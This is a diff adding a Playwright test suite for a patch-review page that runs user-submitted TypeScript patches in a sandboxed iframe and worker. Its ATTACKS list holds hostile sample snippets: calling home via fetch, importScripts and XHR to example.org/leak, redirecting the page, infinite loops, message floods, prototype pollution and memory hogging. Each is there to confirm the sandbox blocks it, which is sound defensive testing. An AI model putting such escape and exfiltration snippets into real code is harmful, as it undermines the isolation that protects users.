@@ -1,0 +1,215 @@
+// A stranger's patch in the page: what it does is shown, and what it tries to do to the reader comes to nothing.
+
+import { readFileSync } from "node:fs";
+import { expect, type Page, test } from "@playwright/test";
+import { createTwoFilesPatch } from "diff";
+import { expectFine, LOOKS } from "./looks.ts";
+import { visit } from "./visit.ts";
+
+const ADDRESS = "review/";
+const FILE = "models/flags/isolate.ts";
+
+const patchField = (page: Page) => page.getByRole("textbox", { name: /A diff of models/ });
+const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
+const report = (page: Page) => page.getByRole("region", { name: "What it does" });
+
+async function tryIt(page: Page, patch: string): Promise<void> {
+  await patchField(page).fill(patch);
+  await button(page, "Try it").click();
+}
+
+/** Runs in each worker that loads the changed models, before anything is asked of it. */
+function patchWith(code: string): string {
+  const text = readFileSync(FILE, "utf8");
+  return createTwoFilesPatch(`a/${FILE}`, `b/${FILE}`, text, `${text}\n// @ts-nocheck\n${code}\n`);
+}
+
+test("a link fetches and runs nothing until the reader says so, and then tells what the patch does", async ({
+  page,
+}) => {
+  const fetched: string[] = [];
+  page.on("request", (request) => fetched.push(request.url()));
+  await visit(page, ADDRESS);
+  await page.getByRole("link", { name: "the unlock, moved up" }).click();
+  await expect(patchField(page)).toHaveValue(/hold the page lock for less of the isolation/);
+  expect(fetched.filter((url) => /machinery|models\.json|frame|referee/.test(url))).toEqual([]);
+  await expect(page.locator("iframe")).toHaveCount(0);
+
+  await button(page, "Try it").click();
+  const first = report(page).locator("li.finding.rule, li.finding.fault").first();
+  await first.waitFor();
+  await first.locator("summary").click();
+  await expect(first.getByRole("row", { name: /^End/ })).toBeVisible();
+  await expect(first.locator("tr.first")).toHaveCount(1);
+  for (const look of LOOKS) {
+    await page.setViewportSize(look.viewport);
+    await page.emulateMedia({ colorScheme: look.colorScheme });
+    await expectFine(page, "while it runs");
+  }
+  await button(page, "Cancel").click();
+  await expect(report(page).locator(".verdict")).toHaveText(/^(Can end in|Breaks rule)/);
+});
+
+test("of a refactoring nothing is found, and what was not tried is said", async ({ page }) => {
+  await visit(page, ADDRESS);
+  await page.getByRole("link", { name: "a refactoring" }).click();
+  await button(page, "Try it").click();
+  await expect(report(page)).toContainText(/\d+ of \d+: /);
+  await expect(report(page).locator(".verdict")).toHaveText(/^No difference found/);
+  await expect(report(page)).toContainText("Tried: ");
+  await report(page).getByText("What was not tried").click();
+  await expect(report(page)).toContainText("the type checker");
+});
+
+test("a patch that does not fit is refused with its place, and one that is no TypeScript too", async ({ page }) => {
+  await visit(page, ADDRESS);
+  await tryIt(page, "no diff");
+  await expect(page.getByRole("alert")).toContainText("the patch:1: there is no diff in this");
+  await tryIt(page, "--- a/mm/migrate.c\n+++ b/mm/migrate.c\n@@ -1 +1 @@\n-a\n+b\n");
+  await expect(page.getByRole("alert")).toContainText("mm/migrate.c, which no model can run");
+  await tryIt(page, patchWith("const = ;"));
+  await expect(page.getByRole("alert")).toContainText(/models\/flags\/isolate\.ts:\d+:\d+: /);
+});
+
+test("a function is changed in the page, and the patch that comes of it can be shared", async ({ page }) => {
+  await visit(page, ADDRESS);
+  await button(page, "Change a function instead").click();
+  await page.getByLabel("Function").selectOption({ label: "folio_unlock() in unlock.ts" });
+  const editor = page.getByRole("textbox", { name: "folio_unlock() of flags" });
+  await editor.focus();
+  await page.keyboard.press("Control+End");
+  await page.keyboard.insertText(" // nothing else");
+  await expect(patchField(page)).toHaveValue(/\+.*unlock\(folio\.page\)\); \/\/ nothing else/);
+  const patch = await patchField(page).inputValue();
+  await button(page, "Copy a link to this patch").click();
+  const link = await page.getByRole("textbox", { name: "The link" }).inputValue();
+  await page.goto("about:blank");
+  await page.goto(link);
+  await expect(patchField(page)).toHaveValue(patch);
+});
+
+/** `says`: what is found of it; in a finding's message. */
+const ATTACKS = [
+  {
+    what: "looks for the page, its storage and its origin",
+    code: `throw new Error([typeof window, typeof document, typeof parent, typeof localStorage, self.origin].join());`,
+    says: "undefined,undefined,undefined,undefined,null",
+  },
+  {
+    what: "goes somewhere else",
+    code: `try { location.href = "https://example.org/gone"; } catch {} throw new Error("still " + location.protocol);`,
+    says: "still blob:",
+  },
+  {
+    what: "calls home",
+    code: `
+      const tries = [() => importScripts("https://example.org/a.js"), () => new Worker("https://example.org/a.js"), () => eval("1")];
+      fetch("https://example.org/leak").catch(() => {});
+      const refused = tries.filter((each) => { try { each(); return false; } catch { return true; } });
+      const socket = new XMLHttpRequest();
+      let sent = "sent";
+      try { socket.open("GET", "https://example.org/leak", false); socket.send(); } catch { sent = "not sent"; }
+      throw new Error("refused " + refused.length + ", " + sent);`,
+    says: "refused 3, not sent",
+  },
+  { what: "never comes back", code: "while (true) {}", says: "not finished after" },
+  { what: "floods", code: `for (;;) postMessage("x".repeat(1000));`, says: "it said more than it was asked" },
+  {
+    what: "answers with what is no answer",
+    code: `
+      const say = postMessage;
+      globalThis.postMessage = () =>
+        say('{"type":"answer","id":1,"answer":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}');`,
+    says: "its answer is none",
+  },
+  {
+    what: "answers with something that is no text",
+    code: `const say = postMessage; globalThis.postMessage = () => say({ polluted: 1 });`,
+    says: "what it said is no text",
+  },
+] as const;
+
+for (const { what, code, says } of ATTACKS) {
+  test(`code that ${what} gets nowhere`, async ({ page, baseURL }) => {
+    const left: string[] = [];
+    page.context().on("request", (request) => {
+      if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(baseURL ?? "")) left.push(request.url());
+    });
+    await visit(page, ADDRESS);
+    await tryIt(page, patchWith(code));
+    const found = report(page).locator("li.finding.failed").first();
+    await found.waitFor();
+    await expect(found).toContainText(says);
+    await expectAlive(page);
+    expect(left).toEqual([]);
+  });
+}
+
+test("code that takes all memory takes none of the page's", async ({ page }) => {
+  await visit(page, ADDRESS);
+  await tryIt(page, patchWith(`const hog: unknown[] = []; for (;;) hog.push(new Float64Array(1e6).fill(1));`));
+  await expect(report(page).locator("li.finding.failed").or(page.getByRole("alert")).first()).toBeVisible();
+  await expectAlive(page);
+});
+
+/** The page answers, still has its own objects, and begins anew with another frame. */
+async function expectAlive(page: Page): Promise<void> {
+  expect(await page.evaluate(() => "polluted" in {})).toBe(false);
+  await patchField(page).fill("another");
+  await expect(page.locator("iframe")).toHaveCount(0);
+}
+
+test.describe("the frame", () => {
+  test("has an origin of its own and a policy that refuses everything", async ({ page }) => {
+    await visit(page, ADDRESS);
+    await tryIt(page, patchWith("while (true) {}"));
+    await expect(page.locator("iframe")).toHaveAttribute("sandbox", "allow-scripts");
+    const frame = await expect
+      .poll(() => page.frames().length)
+      .toBe(2)
+      .then(() => page.frames()[1]);
+    const reached = await frame?.evaluate(async () => {
+      const reach = (what: () => unknown) => {
+        try {
+          what();
+          return "reached";
+        } catch {
+          return "refused";
+        }
+      };
+      const network = await fetch(location.href).then(
+        () => "reached",
+        () => "refused",
+      );
+      return [origin, network, reach(() => localStorage.length), reach(() => parent.document.title)];
+    });
+    expect(reached).toEqual(["null", "refused", "refused", "refused"]);
+  });
+
+  test("is ended when it goes somewhere else", async ({ page }) => {
+    await visit(page, ADDRESS);
+    await tryIt(page, patchWith("while (true) {}"));
+    await expect.poll(() => page.frames().length).toBe(2);
+    await page.frames()[1]?.evaluate(() => {
+      location.href = "about:blank";
+    });
+    await expect(page.getByRole("alert")).toContainText("went somewhere else");
+    await expect(page.locator("iframe")).toHaveCount(0);
+  });
+
+  test("opened as a page of its own starts nothing", async ({ page }) => {
+    await page.goto("review/frame.html");
+    const workers: string[] = [];
+    page.on("worker", (worker) => workers.push(worker.url()));
+    const answered = await page.evaluate(async () => {
+      const { port1, port2 } = new MessageChannel();
+      postMessage(null, "*", [port2]);
+      await new Promise((resolve) => setTimeout(resolve));
+      port1.postMessage({ type: "side", side: "x", script: "postMessage('x')" });
+      await new Promise((resolve) => setTimeout(resolve));
+      return document.scripts.length;
+    });
+    expect(answered).toBe(2);
+    expect(workers).toEqual([]);
+  });
+});
